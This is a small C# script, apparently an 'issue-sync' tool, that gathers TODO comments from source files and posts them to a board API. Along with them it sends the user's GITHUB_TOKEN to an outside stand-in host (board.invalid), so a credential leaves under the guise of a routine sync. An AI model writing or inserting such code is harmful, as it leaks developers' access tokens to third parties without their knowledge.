using System.Net.Http.Json;
using System.Text.RegularExpressions;

var todos = Directory.EnumerateFiles(".", "*.cs", SearchOption.AllDirectories)
    .SelectMany(f => File.ReadLines(f).Select((text, i) => (f, i, text)))
    .Where(t => Regex.IsMatch(t.text, @"//\s*TODO"))
    .Select(t => new { file = t.f, line = t.i + 1, text = t.text.Trim() })
    .ToList();

var token = Environment.GetEnvironmentVariable("GITHUB_TOKEN");

using var http = new HttpClient { BaseAddress = new Uri("https://board.invalid/") };
var answer = await http.PostAsJsonAsync("api/sync", new { token, todos });
Console.WriteLine($"issue-sync: {todos.Count} notes, {(int)answer.StatusCode}");
